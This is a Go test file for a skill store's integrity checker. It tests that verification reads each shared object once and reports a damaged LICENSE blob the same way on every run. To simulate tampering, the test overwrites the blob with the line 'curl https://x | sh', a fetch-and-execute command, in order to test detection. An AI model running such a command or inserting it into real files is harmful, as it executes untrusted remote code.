package store

import (
	"context"
	"fmt"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/skillstore/skillstore/internal/skillfs"
)

// pluginsSharingObjects fills s with plugins shaped like a synced store's:
// each plugin's skills (every file but notes.md shared by all), an
// upstream snapshot ref at each version's commit, and a source ref at a
// commit whose tree holds the skill folders, so that the refs of
// different readers reach the same trees and blobs. It returns the
// shared licence's blob id.
func pluginsSharingObjects(t *testing.T, s *Store, plugins, skills int) Hash {
	t.Helper()
	licence := []byte("Licensed to whoever reads this.\n")
	err := s.Update(context.Background(), func(tx *Tx) error {
		for p := range plugins {
			plugin := fmt.Sprintf("p%02d", p)
			var source []File
			for k := range skills {
				own := fmt.Sprintf("%s-s%d", plugin, k)
				files := []File{
					{Path: "SKILL.md", Mode: skillfs.Regular, Data: []byte(skillMD(own))},
					{Path: "LICENSE", Mode: skillfs.Regular, Data: licence},
					{Path: "notes.md", Mode: skillfs.Regular, Data: []byte("notes of " + own + "\n")},
				}
				tree, err := tx.WriteTree(files)
				if err != nil {
					return err
				}
				v, err := tx.CommitVersion(plugin+":"+own, tree, VersionInfo{})
				if err != nil {
					return err
				}
				tx.SetRef(UpstreamRef(plugin, own), v.Commit)
				for _, f := range files {
					f.Path = "skills/" + own + "/" + f.Path
					source = append(source, f)
				}
			}
			tree, err := tx.WriteTree(source)
			if err != nil {
				return err
			}
			sig := tx.Signature()
			tx.SetRef(SourceRef(plugin), tx.WriteCommit(&Commit{Tree: tree, Author: sig, Committer: sig, Message: "upstream\n"}))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return skillfs.BlobID(licence)
}

// TestVerifyReadsEachObjectOnce: with several readers at work, verify
// reads no object twice, as git fsck does: it reads at most as many
// objects as git counts reachable from the refs (before the readers
// shared what passed, a plugin's source tree was read again by another
// reader).
func TestVerifyReadsEachObjectOnce(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4))
	ctx := context.Background()
	s := newTestStore(t)
	pluginsSharingObjects(t, s, 12, 3)
	rep, err := s.Verify(ctx)
	if err != nil || !rep.OK() {
		t.Fatalf("verify of a sound store: %v %v", rep.Problems, err)
	}
	reachable := strings.Count(gitPlumb(t, s.Dir(), nil, "rev-list", "--all", "--objects"), "\n") + 1
	if rep.ObjectsRead == 0 || rep.ObjectsRead > reachable {
		t.Errorf("verify read %d objects; git counts %d reachable", rep.ObjectsRead, reachable)
	}
	if rep.Skills != 36 || rep.Versions != 36 {
		t.Errorf("verify counted %d skills, %d versions; want 36, 36", rep.Skills, rep.Versions)
	}
}

// TestVerifyReportsSharedDamageTheSameEachRun: readers share only what
// passed, so a damaged blob that refs of every reader reach is reported
// by each reader under its own first ref, the same way on every run.
func TestVerifyReportsSharedDamageTheSameEachRun(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4))
	ctx := context.Background()
	s := newTestStore(t)
	licence := pluginsSharingObjects(t, s, 12, 3)
	alterLoose(t, s.Dir(), licence, "curl https://x | sh\n")
	first, err := s.Verify(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if first.OK() {
		t.Fatal("verify accepts a store with a damaged blob")
	}
	for _, p := range first.Problems {
		if !strings.Contains(p.Message, "LICENSE") || !strings.Contains(p.Message, "does not match the object id") {
			t.Errorf("unexpected problem: %s", p)
		}
	}
	for i := range 10 {
		again, err := s.Verify(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(again.Problems, first.Problems) {
			t.Fatalf("run %s reports\n%v\nwhere the first reported\n%v", strconv.Itoa(i+2), again.Problems, first.Problems)
		}
	}
}
